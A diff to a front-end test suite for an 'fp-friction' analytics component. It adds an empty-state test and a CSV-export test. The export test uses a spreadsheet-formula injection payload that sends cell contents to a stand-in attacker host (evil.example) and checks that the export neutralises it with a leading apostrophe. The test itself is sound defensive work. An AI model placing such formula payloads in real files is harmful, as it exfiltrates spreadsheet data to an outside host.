@@ -131,10 +131,53 @@ describe('fp-friction', () => {
     ]);
   });
 
-  it('shows the empty state when no list has a row', async () => {
-    const element = await friction({ from: '2026-10-01', to: '2026-10-03' });
-    expect(element.status).to.equal('empty');
-    expect(element.shadowRoot!.textContent).to.contain('No data for this range.');
+  it('says that no signal was found, rather than "No data", when no list has a row', async () => {
+    // Users a and b clicked and failed, but never in a burst or three times in a session.
+    const store = await fixtureStore([
+      click('a', '2026-11-27T10:00:00Z', 'button#save', 100, 100),
+      click('a', '2026-11-27T10:00:05Z', 'button#save', 100, 100),
+      error('b', '2026-11-27T11:00:00Z', 'Request failed with status 500'),
+      { event: 'apply_filter', user_id: 'b', timestamp: '2026-11-27T11:01:00Z' },
+    ]);
+    const element = await fixture<FpFriction>(html`<fp-friction label="Friction" .source=${store} from="2026-11-26" to="2026-11-28"></fp-friction>`);
+    expect(await settled(element)).to.equal('empty');
+    const state = element.shadowRoot!.querySelector('.state')!;
+    expect(state.textContent!.trim()).to.equal('No rage clicks, repeated errors or thrashing in this range.');
+    expect(state.getAttribute('role')).to.equal('status');
+    // A range without any events has no signal either.
+    element.setAttribute('from', '2026-10-01');
+    element.setAttribute('to', '2026-10-03');
+    expect(await settled(element)).to.equal('empty');
+    expect(element.shadowRoot!.textContent).to.contain('No rage clicks, repeated errors or thrashing in this range.');
+    expect(element.shadowRoot!.textContent).to.not.contain('No data');
+  });
+
+  it("downloads CSV in which a target that reads as a formula is neutralised with a '", async () => {
+    const target = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const store = await fixtureStore([0, 200, 400].map((ms) => click('a', `2026-11-27T10:00:00.${String(ms).padStart(3, '0')}Z`, target, 10, 10)));
+    const element = await fixture<FpFriction>(html`<fp-friction label="Friction" .source=${store} from="2026-11-26" to="2026-11-28"></fp-friction>`);
+    await settled(element);
+    const blobs: Blob[] = [];
+    const names: string[] = [];
+    const realCreate = URL.createObjectURL;
+    const realClick = HTMLAnchorElement.prototype.click;
+    URL.createObjectURL = (blob: Blob | MediaSource) => {
+      blobs.push(blob as Blob);
+      return realCreate(blob);
+    };
+    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
+      names.push(this.download);
+    };
+    try {
+      element.shadowRoot!.querySelector<HTMLButtonElement>('button[part="download"]')!.click();
+    } finally {
+      URL.createObjectURL = realCreate;
+      HTMLAnchorElement.prototype.click = realClick;
+    }
+    expect(names).to.deep.equal(['friction.csv']);
+    expect(await blobs[0]!.text()).to.equal(
+      `Signal,"Target, message or event",Count,Users\r\nRage clicks,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",1,1\r\n`,
+    );
   });
 
   it('shows the error, naming the field, for a bad attribute or threshold', async () => {
